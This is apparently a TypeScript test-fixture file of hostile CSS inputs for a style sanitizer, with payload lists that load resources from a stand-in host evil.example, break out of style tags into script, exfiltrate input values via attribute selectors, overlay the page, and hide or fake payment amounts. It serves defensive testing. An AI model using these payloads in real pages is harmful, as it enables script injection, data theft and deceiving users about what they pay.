const AWAY = 'https://evil.example/x'

/**
 * Style sheets that load resources, leave their container or cover other content; nothing of them,
 * or only harmless rules, may remain.
 */
export const CSS_VECTORS: readonly string[] = [
  `@import '${AWAY}';`,
  `@import url(${AWAY});`,
  `@IMPORT "${AWAY}" screen;`,
  `@\\69mport '${AWAY}';`,
  `@charset "UTF-7"; @import '${AWAY}';`,
  `@namespace x url(${AWAY});`,
  `@font-face { font-family: x; src: url(${AWAY}); } .card { font-family: x }`,
  `@font-feature-values x { @styleset { a: 1 } }`,
  `@document url(${AWAY}) { .card { color: red } }`,
  `@page { background: url(${AWAY}) }`,
  `@layer x; @layer x { .card { background: url(${AWAY}) } }`,
  `@scope (html) { .card { position: fixed } }`,
  `@container (width > 1px) { .card { position: fixed } }`,
  `@keyframes x { from { background: url(${AWAY}) } } .card { animation: x 1s }`,
  `@property --x { syntax: '<image>'; inherits: true; initial-value: url(${AWAY}) }`,
  `@counter-style x { system: fixed; symbols: url(${AWAY}) }`,
  `@starting-style { .card { background: url(${AWAY}) } }`,
  `@supports (background: url(${AWAY})) { .card { color: red } }`,
  `@media screen { @import '${AWAY}'; .card { background: url(${AWAY}) } }`,
  `@media { .card { position: fixed; inset: 0 } }`,
  `.card { background: url(${AWAY}) }`,
  `.card { background: URL("${AWAY}") }`,
  `.card { background: u\\rl(${AWAY}) }`,
  `.card { background: \\75 rl(${AWAY}) }`,
  `.card { background: url(\n${AWAY}) }`,
  `.card { background: url(//evil.example/x) }`,
  `.card { background: url(data:image/svg+xml,<svg/onload=alert(1)>) }`,
  `.card { background: src("${AWAY}") }`,
  `.card { background-image: image-set("${AWAY}" 1x) }`,
  `.card { background-image: -webkit-image-set(url(${AWAY}) 1x) }`,
  `.card { background-image: image("${AWAY}") }`,
  `.card { background-image: cross-fade(url(${AWAY}), red) }`,
  `.card { background-image: element(#root) }`,
  `.card { background-image: paint(x) }`,
  `.card { border-image: url(${AWAY}) 1 }`,
  `.card { list-style: url(${AWAY}) }`,
  `.card { cursor: url(${AWAY}), auto }`,
  `.card { content: url(${AWAY}) }`,
  `.card::before { content: "Call 1-900-EVIL"; position: fixed; inset: 0 }`,
  `.card { mask: url(${AWAY}) }`,
  `.card { filter: url(${AWAY}#x) }`,
  `.card { clip-path: url(${AWAY}#x) }`,
  `.card { shape-outside: url(${AWAY}) }`,
  `.card { offset-path: url(${AWAY}) }`,
  `.card { behavior: url(${AWAY}) }`,
  `.card { -moz-binding: url(${AWAY}) }`,
  `.card { width: expression(alert(1)) }`,
  `.card { color: expression(alert(1)) }`,
  `.card { --x: url(${AWAY}); background: var(--x) }`,
  `:root { --paper: url(${AWAY}) }`,
  `.card { background: var(--x, url(${AWAY})) }`,
  `.card { background: attr(data-x url) }`,
  `input[value^="a"] { background: url(${AWAY}) }`,
  `input[value^="a"] { color: red }`,
  `.card { position: fixed; inset: 0; z-index: 99999 }`,
  `.card { position: sticky; top: 0 }`,
  `.card { position: absolute !important; top: 0; left: 0; width: 100vw; height: 100vh }`,
  `.card { opacity: 0 } .btn { visibility: hidden } main { display: none }`,
  `.btn { pointer-events: none; clip: rect(0,0,0,0) }`,
  `.card { transform: translateY(-500px) scale(50) }`,
  `.card { translate: 0 -500px; scale: 50; rotate: 180deg }`,
  `.card { margin: -900px 0 0 -900px }`,
  `.card { margin-top: calc(-1 * 900px) }`,
  `.card { padding: 9000px }`,
  `.card { padding: 900vh 0 }`,
  `.card { box-shadow: 0 0 0 9999px red }`,
  `.card { outline: 9999px solid red }`,
  `.card { border: 5000px solid red }`,
  `.card { font-size: 0 } h1 { font: 0/0 a }`,
  `.card { font-size: 900px } .btn { letter-spacing: -90px } p { text-indent: -9999px }`,
  `* { all: unset }`,
  `dialog::backdrop { position: fixed; background: red }`,
  `:host { position: fixed } ::slotted(*) { position: fixed }`,
  `:has(input) { color: red } :is(html, body) { position: fixed } :where(*) { display: none }`,
  `html ~ * { color: red } > body { color: red } + x { color: red }`,
  `& > .card { color: red } .card { & .btn { position: fixed } }`,
  `.card { color: red; } } html { position: fixed } .x {`,
  `.card { color: red </style><script>window.ran=1</script>`,
  `</style><script>window.ran=1</script>`,
  `<!-- .card { position: fixed } -->`,
  `.card { color: "\\"; position: fixed; x: " }`,
  `.card { color: red; /* } .x { */ position: fixed /* } */ }`,
  `.a\\{position:fixed\\} { position: fixed }`,
  `.card { background: linear-gradient(red, blue), url(${AWAY}) }`,
  `.card{color:red;background:\u0000url(${AWAY})}`,
  `${'.card{'.repeat(400)}position:fixed${'}'.repeat(400)}`,
  `.card { color: ${'calc('.repeat(300)}1${')'.repeat(300)} }`,
]

/**
 * Style sheets that hide or cover amounts, or move controls, with values that look harmless;
 * nothing of them may remain.
 */
export const HIDING_CSS: readonly string[] = [
  '.amount { color: transparent }',
  '.amount { color: rgb(0 0 0 / 0) } .amount { color: rgba(0,0,0,.01) } .amount { color: ' +
    '#0000 } .amount { color: #00000002 }',
  '.amount { color: hsl(0 0% 0% / 0) } .amount { color: oklch(100% 0 0) } .amount { color: ' +
    'color-mix(in srgb, white, white) }',
  '.amount { color: currentcolor } .amount { color: inherit } .amount { color: canvas } ' +
    '.amount { color: light-dark(white, black) }',
  '@media (prefers-color-scheme: light) { .amount { color: #fff } .amount { color: #F6F3EC } ' +
    '.amount { color: white } }',
  '@media (prefers-color-scheme: dark) { .amount { color: #14272B } .amount { color: black } }',
  '@media (prefers-color-scheme: light) { .card { background: #15282C } .card { background: ' +
    'linear-gradient(#fff, #15282C) } }',
  '@media (prefers-color-scheme: light) { .card { color: #fff; background: #15282C } .card { ' +
    'color: #777; background: #888 } }',
  '@media (prefers-color-scheme: light) { @media (prefers-color-scheme: light) { :root { ' +
    '--ink: #fff; --ink-2: #eee; --paper: #15282C; --surface: #15282C } } }',
  ':root { --ink: transparent; --surface: transparent; --brand: #fff; --on-brand: #fff; ' +
    '--t-7: 0px; --s-5: 90px; --x: 9px }',
  '.amount { color: var(--paper) } .amount { color: var(--surface) } .amount { background: ' +
    'var(--ink) } .amount { color: var(--x, transparent) }',
  '.btn { margin-top: calc(10px * 40) } .btn { margin-top: max(1px, 400px) } .btn { ' +
    'margin-top: min(100vh, 4000px) } .btn { margin: clamp(300px, 1px, 900px) }',
  '.btn { margin-top: var(--x) } :root { --x: 90vh } .btn { margin-top: ' +
    'env(safe-area-inset-top, 400px) } .btn { margin-top: attr(data-x px) }',
  '.btn { padding: calc(1px * infinity) } .btn { margin-top: round(400px, 1px) } .btn { ' +
    'margin-left: hypot(300px, 400px) } .btn { margin: -40px } .btn { margin: 60% }',
  '.label { box-shadow: -24px 0 0 0 #fff } .label { box-shadow: 0 0 0 24px #fff } .label { ' +
    'box-shadow: 0 1px 2px #000, -16px 0 0 2px #fff }',
  '.amount { text-shadow: 0 0 40px #fff } .amount { text-shadow: 20px 20px red } .card { ' +
    'box-shadow: 0 0 0 90px #fff } .card { box-shadow: inset 0 0 0 60px #fff }',
  '.amount { font-size: 0 } .amount { font-size: 1px } .amount { font-size: .01em } .amount ' +
    '{ font-size: 4em } .amount { font-size: 300% } .amount { font-size: smaller }',
  '.amount { font: 0/0 a } .amount { font: 1px/1 serif } .amount { line-height: 0 } .amount ' +
    '{ line-height: .1 } .amount { line-height: 90px } .amount { line-height: 1px }',
  '.amount { letter-spacing: -1em } .amount { letter-spacing: 90px } .amount { word-spacing: ' +
    '90px } .amount { text-indent: -999px } .amount { text-indent: 100% }',
  '.amount { text-decoration: line-through 40px red } .amount { text-decoration-thickness: ' +
    '40px } .amount { text-underline-offset: -20px } .amount { text-decoration-line: ' +
    'line-through }',
  '.amount { opacity: 0 } .amount { opacity: .01 } .amount { visibility: hidden } .amount { ' +
    'display: none } .amount { content-visibility: hidden } .amount { zoom: .01 }',
  '.amount { transform: scale(0) } .amount { scale: 0 } .amount { translate: -9999px } ' +
    '.amount { clip-path: inset(50%) } .amount { filter: opacity(0) } .amount { mask-image: ' +
    'linear-gradient(#0000, #0000) }',
  '.amount { position: absolute; z-index: -1 } .amount { height: 0; overflow: hidden } ' +
    '.amount { max-width: 0 } .amount { float: right; order: 9 } .amount { mix-blend-mode: ' +
    'difference }',
  '.amount { -webkit-text-fill-color: transparent } .amount { -webkit-text-security: disc } ' +
    '.amount { -webkit-text-stroke: 20px #fff } .amount { -webkit-opacity: 0 } .amount { ' +
    '-moz-opacity: 0 }',
  '.amount { background-clip: text } .amount { -webkit-background-clip: text } .amount { ' +
    'writing-mode: vertical-rl } .amount { direction: rtl; unicode-bidi: bidi-override }',
  '.amount { animation: x 1s forwards } @keyframes x { to { opacity: 0 } } .amount { ' +
    'transition: color 9999s } @keyframes y { from { color: transparent } }',
  '.amount::before { content: "$0.00" } .amount::after { content: "0" } .amount { content: ' +
    '"$1" } .btn::after { content: ""; position: fixed; inset: 0 }',
  '.amount { font-family: Wingdings } .amount { font-family: "Webdings" } .amount { ' +
    'font-family: "Zapf Dingbats", Symbol } .amount { font-family: url(x) } .amount { src: ' +
    'local(x) }',
  ':root { --font-text: Wingdings; --font-head: "Segoe UI Symbol"; --font-x: a } :root { ' +
    'font-size: 90px } html { font-size: 6px } body { margin-top: 32px; padding: 30px }',
  '@layer x { .amount { opacity: 0 } } @container (width > 1px) { .amount { font-size: 0 } } ' +
    '@scope (.card) { .amount { color: transparent } } @supports (opacity: 0) { .amount { ' +
    'opacity: 0 } }',
  '@media screen { @supports (color: red) { .amount { color: transparent; opacity: 0 } } } ' +
    '.card { & .amount { opacity: 0 } } .card { .amount { font-size: 0 } }',
  '.amount { c\\6f lor: transparent } .amount { \\6f pacity: 0 } .amount { COLOR: ' +
    'TRANSPARENT } .amount { color: tr\\61nsparent } .amount { color/**/: transparent ' +
    '!important }',
  '.card { gap: 90px } .card { row-gap: calc(1px + 99px) } .card { border-width: 90px } ' +
    '.card { border: 60px solid #fff } .card { border-radius: 900px } .card { outline: 9px ' +
    'solid }',
  '.amount { all: initial } .amount { font-feature-settings: "zero" } .amount { ' +
    'font-variation-settings: "wght" 1 } .amount { font-weight: inherit } .amount { color: ' +
    'unset }',
]

/**
 * Properties allowed only on general pages: not where a person signs in, pays, or answers a dialog.
 */
export const ELSEWHERE_CSS: readonly string[] = [
  'h1, .btn, .amount, form * { letter-spacing: 4px; word-spacing: 4px; text-transform: ' +
    'uppercase; text-align: right }',
  '* { padding: 20px } * { margin: 20px } * { font-size: 30px; line-height: 2 } * { gap: 30px }',
  '* { color: #5A0000; background: #FFFBEA; text-shadow: 1px 1px 2px #000; box-shadow: 0 0 ' +
    '20px #000 }',
]

/** Returns the sanitized form of a selector for rules that apply on general pages only. */
export function elsewhere(selector: string): string {
  return `.resort-theme:where(:not(:has(.brand-protected))) ${selector}:where(:not(dialog,dialog *))`
}
